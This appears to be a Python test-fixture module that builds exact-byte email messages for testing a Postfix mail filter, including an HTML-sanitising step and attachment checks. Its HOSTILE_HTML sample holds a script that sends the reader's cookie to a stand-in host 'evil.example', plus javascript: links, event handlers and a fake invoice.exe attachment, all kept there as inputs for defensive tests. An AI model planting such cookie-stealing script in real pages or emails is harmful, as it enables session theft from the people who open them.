"""Test messages as exact bytes (CRLF line ends), and a reader for what Postfix delivered.

Each message carries the headers Postfix would otherwise add for a loopback
client (Date, Message-ID, From, To), so Postfix's cleanup adds nothing but
its Received header and the delivered bytes can be compared exactly.
"""

from __future__ import annotations

import base64
import binascii
import uuid
from dataclasses import dataclass

SENDER = "alice@example.org"
RECIPIENT = "bob@example.net"


@dataclass(frozen=True)
class Sample:
    message_id: str  # with angle brackets
    data: bytes


def _build(headers: list[tuple[str, str]], body: str, tag: str, charset: str = "utf-8") -> Sample:
    message_id = f"<{tag}-{uuid.uuid4().hex[:12]}@example.org>"
    fields = [
        ("From", f"Alice <{SENDER}>"),
        ("To", f"Bob <{RECIPIENT}>"),
        ("Date", "Mon, 23 Nov 2026 10:00:00 +0000"),
        ("Message-ID", message_id),
        *headers,
    ]
    head = "".join(f"{name}: {value}\r\n" for name, value in fields)
    return Sample(message_id, (head + "\r\n" + body).encode(charset))


def _crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def clean(subject: str = "Quarterly report") -> Sample:
    body = _crlf(
        "Hello Bob,\n\n"
        "the figures are in. A line that starts with a dot follows:\n"
        ".hidden by dot-stuffing on the wire, restored on arrival\n"
        "Trailing spaces stay:   \n"
        "\tand tabs too.\n\n"
        "Alice\n"
    )
    return _build([("Subject", subject), ("MIME-Version", "1.0"),
                   ("Content-Type", "text/plain; charset=us-ascii")], body, "clean")


HOSTILE_HTML = (
    "<html><body><p>Hi Bob, <b>see below</b>.</p>\n"
    '<script>document.location="https://evil.example/steal?c="+document.cookie</script>\n'
    '<a href="javascript:alert(1)" onclick="steal()">click me</a>\n'
    '<img src="https://tracker.example/p.gif" onerror="steal()">\n'
    # A style the attribute filter must cut (a url() no image could have: a background
    # image an <img src> could show stays, as that <img> does): nh3 calls it back into Python.
    '<p style="color: navy; background: url(javascript:steal())">Regards, Alice</p>'
    "</body></html>\n"
)


def hostile_html(copies: int = 1) -> Sample:
    return _build([("Subject", "Your invoice"), ("MIME-Version", "1.0"),
                   ("Content-Type", "text/html; charset=us-ascii")],
                  _crlf(HOSTILE_HTML * copies), "html")


def cp1252_html(content_type: str, head: str = "") -> Sample:
    """8-bit windows-1252 HTML with a script, typed ``content_type``, ``head`` in its <head>."""
    html = (f"<html><head>{head}</head><body><p>Caf\u00e9 \u201cquoted\u201d</p>"
            "<script>alert(1)</script></body></html>\n")
    return _build([("Subject", "Menu"), ("MIME-Version", "1.0"), ("Content-Type", content_type),
                   ("Content-Transfer-Encoding", "8bit")], _crlf(html), "cp1252", "cp1252")


def with_attachment(
    filename: str, payload: bytes, content_type: str, subject: str = "Files for you",
    encoding: str = "base64",
) -> Sample:
    if encoding == "base64":
        encoded = base64.encodebytes(payload).decode()
    else:  # quoted-printable: a line break of the file a hard break, as a text's are
        encoded = binascii.b2a_qp(payload, istext=True).decode("ascii") + "\n"
    body = _crlf(
        "--b1\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "See the attachment.\n"
        "--b1\n"
        f'Content-Type: {content_type}; name="{filename}"\n'
        f'Content-Disposition: attachment; filename="{filename}"\n'
        f"Content-Transfer-Encoding: {encoding}\n\n"
        f"{encoded}"
        "--b1--\n"
    )
    return _build([("Subject", subject), ("MIME-Version", "1.0"),
                   ("Content-Type", 'multipart/mixed; boundary="b1"')], body, "attach")


def executable() -> Sample:
    # A PE header, so type detection by content agrees with the name.
    return with_attachment("invoice.exe", b"MZ\x90\x00" + bytes(2048), "application/octet-stream")


def big_text(size: int, subject: str = "Big") -> Sample:
    line = "x" * 76 + "\r\n"
    return _build([("Subject", subject)], line * (size // len(line) + 1), "big")


@dataclass(frozen=True)
class Delivered:
    """A delivered message split into its header fields (raw, folded) and body."""

    fields: list[bytes]  # each field with its folded continuation lines and CRLFs
    body: bytes

    @classmethod
    def parse(cls, data: bytes) -> Delivered:
        head, sep, body = data.partition(b"\r\n\r\n")
        assert sep, "no end of headers in the delivered message"
        fields: list[bytes] = []
        for line in (head + b"\r\n").splitlines(keepends=True):
            if line[:1] in (b" ", b"\t") and fields:
                fields[-1] += line
            else:
                fields.append(line)
        return cls(fields, body)

    def names(self) -> list[str]:
        return [f.split(b":", 1)[0].decode().lower() for f in self.fields]

    def header(self, name: str) -> str | None:
        for field in self.fields:
            key, _, value = field.partition(b":")
            if key.decode().lower() == name.lower():
                return value.decode().strip()
        return None


EIGHT_BIT_TEXT = "Grüße aus Köln – the plain part.\n"


def eight_bit_alternative() -> Sample:
    """Raw UTF-8 in both parts (Content-Transfer-Encoding: 8bit; BODY=8BITMIME on the
    wire), the HTML part hostile."""
    html = HOSTILE_HTML.replace("see below", "siehe unten – Grüße")
    body = _crlf(
        "--alt\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        f"{EIGHT_BIT_TEXT}"
        "--alt\n"
        "Content-Type: text/html; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        f"{html}"
        "--alt--\n"
    )
    return _build([("Subject", "Newsletter"), ("MIME-Version", "1.0"),
                   ("Content-Type", 'multipart/alternative; boundary="alt"')], body, "eightbit")


def multipart(subtype: str, entities: list[str], subject: str = "Parts") -> Sample:
    """A multipart/``subtype`` of ``entities`` (each its header lines, a blank line, its
    body), boundary "part"."""
    body = "".join(f"--part\n{entity}" for entity in entities) + "--part--\n"
    return _build([("Subject", subject), ("MIME-Version", "1.0"),
                   ("Content-Type", f'multipart/{subtype}; boundary="part"')], _crlf(body),
                  subtype)


def single_part(content_type: str, fields: list[tuple[str, str]], body: str) -> Sample:
    """A message that is one entity: ``content_type``, further ``fields``, ``body``."""
    headers = [("Subject", "One file"), ("MIME-Version", "1.0"), ("Content-Type", content_type),
               *fields]
    return _build(headers, _crlf(body), "single")
